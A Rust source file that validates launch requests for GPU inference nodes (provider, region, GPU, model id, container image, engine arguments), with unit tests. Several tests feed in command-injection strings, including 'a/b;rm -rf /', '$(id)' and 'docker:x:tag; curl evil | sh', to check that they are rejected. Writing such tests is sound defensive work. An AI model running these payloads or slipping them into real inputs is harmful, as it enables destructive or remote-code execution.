//! The launch request (`NodeConfig`, the seed's shape) and its validation into a [`NodeSpec`],
//! the only form the rest of the control plane accepts. Every rule names the field it checks,
//! so a rejected request gets a 422 that says what to change.

use std::sync::LazyLock;

use regex::Regex;
use serde::{Deserialize, Serialize};

use crate::offerings::{Provider, gpu_counts};
use crate::vllm_args;

/// A launch request as clients send it (seed 003's `NodeConfig`).
#[derive(Debug, Clone, Default, Deserialize, Serialize, utoipa::ToSchema)]
#[serde(deny_unknown_fields)]
pub struct NodeConfig {
    /// A UUID for the node; generated when absent.
    #[serde(default)]
    pub node_id: Option<String>,
    /// aws, gcp, azure, lambda, oci or kubernetes.
    #[serde(default)]
    pub provider: String,
    /// A region of the provider (a kubeconfig context for Kubernetes).
    #[serde(default)]
    pub region: String,
    /// A GPU name, optionally with a count: `A100`, `A100:2`.
    #[serde(default)]
    pub gpu: String,
    /// A Hugging Face model id, `org/name`. For `llamacpp` a GGUF repository, optionally with
    /// its quantization: `org/name:Q4_K_M` (what `llama-server -hf` takes).
    #[serde(default)]
    pub model: String,
    /// Spot capacity; defaults to true where the provider has spot.
    #[serde(default)]
    pub use_spot: Option<bool>,
    /// Disk in GB; default 256. `576.0` is read as `576`, as JSON Schema's `integer` has it.
    #[serde(default, deserialize_with = "integral")]
    pub disk_size: Option<i64>,
    /// The inference server: `vllm` (default) or `llamacpp`.
    #[serde(default)]
    pub engine: Option<skydeck_contract::Engine>,
    /// A container image for the engine (`docker:repo[:tag][@sha256:…]`, see [`IMAGE`]), so
    /// the node skips installing it.
    #[serde(default)]
    pub image: Option<String>,
    /// Extra engine flags, from the engine's allow-list (`vllm_args` in seed 003).
    #[serde(default, alias = "vllm_args")]
    pub engine_args: Option<String>,
}

/// An integer as JSON Schema defines one: any number with no fractional part, so `576.0` is
/// read as `576` (the document says `integer`, and a client serializing from a float would
/// otherwise be refused for a value the document allows). A float past the range of `i64`
/// saturates, and the range check then names it.
fn integral<'de, D: serde::Deserializer<'de>>(d: D) -> Result<Option<i64>, D::Error> {
    use serde::de::Error;
    let Some(n) = Option::<serde_json::Number>::deserialize(d)? else {
        return Ok(None);
    };
    n.as_i64()
        .or_else(|| n.as_f64().filter(|f| f.fract() == 0.0).map(|f| f as i64))
        .map(Some)
        .ok_or_else(|| D::Error::custom(format!("invalid type: {n}, expected an integer")))
}

/// A validated launch request.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct NodeSpec {
    /// The node's UUID.
    pub node_id: uuid::Uuid,
    /// The provider.
    pub provider: Provider,
    /// The region or Kubernetes context.
    pub region: String,
    /// The GPU name as SkyPilot spells it.
    pub gpu: String,
    /// GPUs per node.
    pub gpu_count: u32,
    /// The Hugging Face model id (for llama.cpp, `org/name[:quant]`).
    pub model: String,
    /// Spot capacity.
    pub use_spot: bool,
    /// Disk in GB.
    pub disk_size: u32,
    /// The inference server.
    pub engine: skydeck_contract::Engine,
    /// The engine's container image (`docker:…`).
    pub image: Option<String>,
    /// The engine's arguments, one per element.
    pub engine_args: Vec<String>,
}

/// A broken rule: which field, and what was expected.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error, Serialize)]
#[error("{field}: {rule}")]
pub struct Invalid {
    /// The field of the request.
    pub field: &'static str,
    /// What is wrong and what is expected.
    pub rule: String,
}

fn invalid(field: &'static str, rule: impl Into<String>) -> Invalid {
    Invalid {
        field,
        rule: rule.into(),
    }
}

/// Smallest and largest disk, in GB. SkyPilot's images need 50 GB; 16 TB is past any GPU VM's
/// boot-disk limit.
pub const DISK_RANGE: std::ops::RangeInclusive<i64> = 50..=16_384;
/// The default disk (the seed's).
pub const DEFAULT_DISK: u32 = 256;

/// Hugging Face's repo id rules: `org/name`, each part letters, digits, `-`, `_`, `.`, not
/// starting or ending with `-` or `.`, no `--` or `..`, at most 96 characters.
static MODEL_PART: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[A-Za-z0-9](?:[A-Za-z0-9._-]{0,94}[A-Za-z0-9_])?$").expect("regex")
});
/// A llama.cpp model's quantization tag after `org/name:` (`Q4_K_M`, `IQ2_XS`, `F16`); like
/// the repository's parts it may not hold `--` or `..`.
static QUANT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[A-Za-z0-9][A-Za-z0-9_.-]{0,31}$").expect("regex"));

/// What `image` may be: SkyPilot's `docker:` prefix, then a repository path of lower-case
/// letters, digits and `._/-` (a registry host without a port may lead it:
/// `ghcr.io/ggml-org/llama.cpp`), an optional tag, an optional digest. Nothing in it reaches a
/// script (it goes to `resources.image_id` as a YAML value); the shape only keeps SkyPilot from
/// being handed something it would misread, such as a registry port that looks like a tag.
pub const IMAGE: &str = r"^docker:[a-z0-9][a-z0-9._/-]{0,254}(:[A-Za-z0-9_][A-Za-z0-9._-]{0,127})?(@sha256:[0-9a-f]{64})?$";
static IMAGE_RE: LazyLock<Regex> = LazyLock::new(|| Regex::new(IMAGE).expect("regex"));

/// A kubeconfig context name: what `kubectl` and cloud tools generate
/// (`gke_project_zone_cluster`, `arn:aws:eks:…:cluster/name`, `user@cluster`).
static CONTEXT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[A-Za-z0-9][A-Za-z0-9_.:@/-]{0,252}$").expect("regex"));

/// Options of validation that belong to the deployment.
#[derive(Debug, Clone, Default)]
pub struct Rules {
    /// Kubernetes contexts a node may use; empty = any context of a valid shape.
    pub kubernetes_contexts: Vec<String>,
}

impl NodeConfig {
    /// Checks every field; the first broken rule is returned.
    pub fn validate(&self, rules: &Rules) -> Result<NodeSpec, Invalid> {
        let node_id = match self.node_id.as_deref() {
            None | Some("") => uuid::Uuid::new_v4(),
            Some(s) => uuid::Uuid::try_parse(s)
                .ok()
                .filter(|u| !u.is_nil())
                .ok_or_else(|| {
                    invalid(
                        "node_id",
                        format!(
                            "{} is not a UUID (omit it to have one generated)",
                            vllm_args::printable(s)
                        ),
                    )
                })?,
        };
        let provider = Provider::parse(&self.provider).ok_or_else(|| {
            invalid(
                "provider",
                format!(
                    "{} is not one of aws, gcp, azure, lambda, oci, kubernetes",
                    vllm_args::printable(&self.provider)
                ),
            )
        })?;
        let offering = provider.offering();
        let region = self.region.clone();
        if provider == Provider::Kubernetes {
            if !CONTEXT.is_match(&region) {
                return Err(invalid(
                    "region",
                    format!(
                        "{} is not a kubeconfig context name (letters, digits and _.:@/-)",
                        vllm_args::printable(&region)
                    ),
                ));
            }
            if !rules.kubernetes_contexts.is_empty() && !rules.kubernetes_contexts.contains(&region)
            {
                return Err(invalid(
                    "region",
                    format!(
                        "{} is not an allowed Kubernetes context (allowed: {})",
                        vllm_args::printable(&region),
                        rules.kubernetes_contexts.join(", ")
                    ),
                ));
            }
        } else if !offering.regions.contains(&region.as_str()) {
            return Err(invalid(
                "region",
                format!(
                    "{} is not a known {provider} region (known: {})",
                    vllm_args::printable(&region),
                    offering.regions.join(", ")
                ),
            ));
        }
        let (gpu, count) = match self.gpu.split_once(':') {
            Some((g, c)) => (g, Some(c)),
            None => (self.gpu.as_str(), None),
        };
        let Some(gpu) = offering
            .gpus
            .iter()
            .find(|g| g.eq_ignore_ascii_case(gpu))
            .copied()
        else {
            return Err(invalid(
                "gpu",
                format!(
                    "{} is not a GPU {provider} offers (known: {})",
                    vllm_args::printable(&self.gpu),
                    offering.gpus.join(", ")
                ),
            ));
        };
        let counts = gpu_counts(provider, gpu);
        let gpu_count = match count {
            None => 1,
            Some(c) => c
                .parse::<u32>()
                .ok()
                .filter(|_| c.bytes().all(|b| b.is_ascii_digit()))
                .ok_or_else(|| {
                    invalid(
                        "gpu",
                        format!("count {} is not a number", vllm_args::printable(c)),
                    )
                })?,
        };
        if !counts.contains(&gpu_count) {
            let list: Vec<String> = counts.iter().map(u32::to_string).collect();
            return Err(invalid(
                "gpu",
                format!(
                    "{provider} offers {gpu} in counts of {} per node, not {gpu_count}",
                    list.join(", ")
                ),
            ));
        }
        let engine = self.engine.unwrap_or_default();
        let model = self.model.as_str();
        // llama-server fetches a GGUF repository by `-hf org/name[:quant]`; vLLM takes the
        // repository alone.
        let (repo, quant) = match (engine, model.split_once(':')) {
            (skydeck_contract::Engine::Llamacpp, Some((repo, quant))) => (repo, Some(quant)),
            _ => (model, None),
        };
        let model_ok = repo.len() <= 193
            && repo
                .split_once('/')
                .is_some_and(|(org, name)| part_ok(org) && part_ok(name))
            && quant.is_none_or(|q| QUANT.is_match(q) && !q.contains("..") && !q.contains("--"));
        if !model_ok {
            let expected = match engine {
                skydeck_contract::Engine::Vllm => {
                    "a Hugging Face model id (org/name: letters, digits, - _ .)"
                }
                skydeck_contract::Engine::Llamacpp => {
                    "a Hugging Face GGUF repository (org/name, optionally :QUANT such as :Q4_K_M; letters, digits, - _ .)"
                }
            };
            return Err(invalid(
                "model",
                format!("{} is not {expected}", vllm_args::printable(model)),
            ));
        }
        let image = match self.image.as_deref() {
            None => None,
            Some(_) if !runs_images(provider) => {
                return Err(invalid(
                    "image",
                    format!("SkyPilot runs no container images on {provider}; omit image"),
                ));
            }
            Some(i) if IMAGE_RE.is_match(i) && !i.contains("..") && !i.contains("//") => {
                Some(i.to_string())
            }
            Some(i) => {
                return Err(invalid(
                    "image",
                    format!(
                        "{} is not docker:repository[:tag][@sha256:digest] (lower-case letters, digits and ._/- in the repository; no registry port)",
                        vllm_args::printable(i)
                    ),
                ));
            }
        };
        let use_spot = match self.use_spot {
            None => offering.spot,
            Some(true) if !offering.spot => {
                return Err(invalid(
                    "use_spot",
                    format!("{provider} has no spot capacity; set use_spot to false"),
                ));
            }
            Some(v) => v,
        };
        let disk_size = match self.disk_size {
            None => DEFAULT_DISK,
            Some(d) if DISK_RANGE.contains(&d) => d as u32,
            Some(d) => {
                return Err(invalid(
                    "disk_size",
                    format!(
                        "{d} GB is outside {}..={} GB",
                        DISK_RANGE.start(),
                        DISK_RANGE.end()
                    ),
                ));
            }
        };
        let engine_args = match self.engine_args.as_deref() {
            None => Vec::new(),
            Some(text) => {
                vllm_args::parse_for(engine, text).map_err(|rule| invalid("engine_args", rule))?
            }
        };
        Ok(NodeSpec {
            node_id,
            provider,
            region,
            gpu: gpu.to_string(),
            gpu_count,
            model: model.to_string(),
            use_spot,
            disk_size,
            engine,
            image,
            engine_args,
        })
    }
}

/// Whether SkyPilot can run the engine in a container image (`image_id: docker:…`) on
/// `provider`: not on OCI, where its launch refuses docker images.
pub fn runs_images(provider: Provider) -> bool {
    provider != Provider::Oci
}

fn part_ok(part: &str) -> bool {
    MODEL_PART.is_match(part) && !part.contains("--") && !part.contains("..")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seed_basic() -> NodeConfig {
        NodeConfig {
            provider: "aws".into(),
            region: "us-west-2".into(),
            gpu: "A10G".into(),
            model: "meta-llama/Llama-2-7b-chat-hf".into(),
            use_spot: Some(true),
            ..NodeConfig::default()
        }
    }

    #[test]
    fn seed_examples_validate() {
        let spec = seed_basic().validate(&Rules::default()).unwrap();
        assert_eq!(spec.disk_size, 256);
        assert_eq!(spec.gpu_count, 1);
        let adv = NodeConfig {
            provider: "gcp".into(),
            region: "us-central1".into(),
            gpu: "a100:2".into(),
            model: "meta-llama/Llama-2-70b-chat-hf".into(),
            disk_size: Some(512),
            engine_args: Some("--tensor-parallel-size 2 --max-model-len 4096".into()),
            ..NodeConfig::default()
        };
        let spec = adv.validate(&Rules::default()).unwrap();
        assert_eq!((spec.gpu.as_str(), spec.gpu_count), ("A100", 2));
        assert!(spec.use_spot, "gcp defaults to spot");
        let lambda = NodeConfig {
            provider: "lambda".into(),
            region: "us-east-1".into(),
            gpu: "H100".into(),
            model: "mistralai/Mixtral-8x7B-Instruct-v0.1".into(),
            use_spot: Some(false),
            disk_size: Some(1024),
            ..NodeConfig::default()
        };
        assert!(!lambda.validate(&Rules::default()).unwrap().use_spot);
    }

    #[test]
    fn each_rule_names_its_field() {
        let cases: Vec<(NodeConfig, &str)> = vec![
            (
                NodeConfig {
                    provider: "ibm".into(),
                    ..seed_basic()
                },
                "provider",
            ),
            (
                NodeConfig {
                    region: "mars-1".into(),
                    ..seed_basic()
                },
                "region",
            ),
            (
                NodeConfig {
                    gpu: "TPU".into(),
                    ..seed_basic()
                },
                "gpu",
            ),
            (
                NodeConfig {
                    gpu: "A10G:3".into(),
                    ..seed_basic()
                },
                "gpu",
            ),
            (
                NodeConfig {
                    model: "llama".into(),
                    ..seed_basic()
                },
                "model",
            ),
            (
                NodeConfig {
                    model: "a/b;rm -rf /".into(),
                    ..seed_basic()
                },
                "model",
            ),
            (
                NodeConfig {
                    model: "-a/b".into(),
                    ..seed_basic()
                },
                "model",
            ),
            (
                NodeConfig {
                    disk_size: Some(10),
                    ..seed_basic()
                },
                "disk_size",
            ),
            (
                NodeConfig {
                    disk_size: Some(1 << 40),
                    ..seed_basic()
                },
                "disk_size",
            ),
            (
                NodeConfig {
                    node_id: Some("x".into()),
                    ..seed_basic()
                },
                "node_id",
            ),
            (
                NodeConfig {
                    provider: "lambda".into(),
                    region: "us-east-1".into(),
                    gpu: "H100".into(),
                    use_spot: Some(true),
                    ..seed_basic()
                },
                "use_spot",
            ),
            (
                NodeConfig {
                    engine_args: Some("--port 1".into()),
                    ..seed_basic()
                },
                "engine_args",
            ),
        ];
        for (cfg, field) in cases {
            let err = cfg.validate(&Rules::default()).unwrap_err();
            assert_eq!(err.field, field, "{err}");
        }
    }

    fn llamacpp() -> NodeConfig {
        NodeConfig {
            engine: Some(skydeck_contract::Engine::Llamacpp),
            model: "Qwen/Qwen2.5-7B-Instruct-GGUF:Q4_K_M".into(),
            engine_args: Some("--ctx-size 8192 --n-gpu-layers 99".into()),
            ..seed_basic()
        }
    }

    #[test]
    fn llamacpp_models_and_args() {
        let spec = llamacpp().validate(&Rules::default()).unwrap();
        assert_eq!(spec.engine, skydeck_contract::Engine::Llamacpp);
        assert_eq!(spec.model, "Qwen/Qwen2.5-7B-Instruct-GGUF:Q4_K_M");
        assert_eq!(
            spec.engine_args,
            ["--ctx-size", "8192", "--n-gpu-layers", "99"]
        );
        let plain = NodeConfig {
            model: "Qwen/Qwen2.5-7B-Instruct-GGUF".into(),
            ..llamacpp()
        };
        assert!(plain.validate(&Rules::default()).is_ok());
        // The quantization suffix is llama.cpp's; vLLM takes no such thing.
        let vllm = NodeConfig {
            engine: None,
            engine_args: None,
            ..llamacpp()
        };
        assert_eq!(vllm.validate(&Rules::default()).unwrap_err().field, "model");
        for model in ["a/b:", "a/b:Q4;id", "a/b:x:y", "a/b:..", "a:Q4"] {
            let cfg = NodeConfig {
                model: model.into(),
                ..llamacpp()
            };
            let err = cfg.validate(&Rules::default()).unwrap_err();
            assert_eq!(err.field, "model", "{model}: {err}");
            assert!(err.rule.contains("GGUF repository"), "{err}");
        }
        let cfg = NodeConfig {
            engine_args: Some("--ctx-size 8192 --threads $(id)".into()),
            ..llamacpp()
        };
        let err = cfg.validate(&Rules::default()).unwrap_err();
        assert_eq!(err.field, "engine_args");
        assert!(err.rule.contains("[3] --threads has value"), "{err}");
        assert!(err.rule.contains("expects an integer"), "{err}");
        // vLLM's flags are not llama.cpp's.
        let cfg = NodeConfig {
            engine_args: Some("--tensor-parallel-size 2".into()),
            ..llamacpp()
        };
        assert_eq!(
            cfg.validate(&Rules::default()).unwrap_err().field,
            "engine_args"
        );
    }

    #[test]
    fn images() {
        for ok in [
            "docker:vllm/vllm-openai:v0.33.0",
            "docker:ghcr.io/ggml-org/llama.cpp:server-cuda",
            "docker:ubuntu",
            &format!("docker:vllm/vllm-openai@sha256:{}", "a".repeat(64)),
        ] {
            let cfg = NodeConfig {
                image: Some(ok.to_string()),
                ..seed_basic()
            };
            assert_eq!(
                cfg.validate(&Rules::default()).unwrap().image.as_deref(),
                Some(ok)
            );
        }
        for bad in [
            "",
            "vllm/vllm-openai",
            "docker:",
            "docker:Vllm/x",
            "docker:registry:5000/x",
            "docker:x:tag; curl evil | sh",
            "docker:x\nrun: evil",
            "docker:../x",
            "docker:x@sha256:abc",
        ] {
            let cfg = NodeConfig {
                image: Some(bad.to_string()),
                ..seed_basic()
            };
            let err = cfg.validate(&Rules::default()).unwrap_err();
            assert_eq!(err.field, "image", "{bad}");
            assert!(err.rule.contains("docker:repository"), "{err}");
        }
        let oci = NodeConfig {
            provider: "oci".into(),
            region: "us-ashburn-1".into(),
            gpu: "A100".into(),
            use_spot: None,
            image: Some("docker:vllm/vllm-openai:v0.33.0".into()),
            ..seed_basic()
        };
        let err = oci.validate(&Rules::default()).unwrap_err();
        assert_eq!(err.field, "image", "{err}");
    }

    #[test]
    fn kubernetes_contexts() {
        let k = NodeConfig {
            provider: "kubernetes".into(),
            region: "gke_ml-platform_us-central1_h100-pool".into(),
            gpu: "H100:8".into(),
            model: "Qwen/Qwen2.5-7B-Instruct".into(),
            ..NodeConfig::default()
        };
        assert!(!k.validate(&Rules::default()).unwrap().use_spot);
        let rules = Rules {
            kubernetes_contexts: vec!["other".into()],
        };
        assert_eq!(k.validate(&rules).unwrap_err().field, "region");
        let bad = NodeConfig {
            region: "ctx\nname: x".into(),
            ..k
        };
        assert_eq!(bad.validate(&Rules::default()).unwrap_err().field, "region");
    }
}
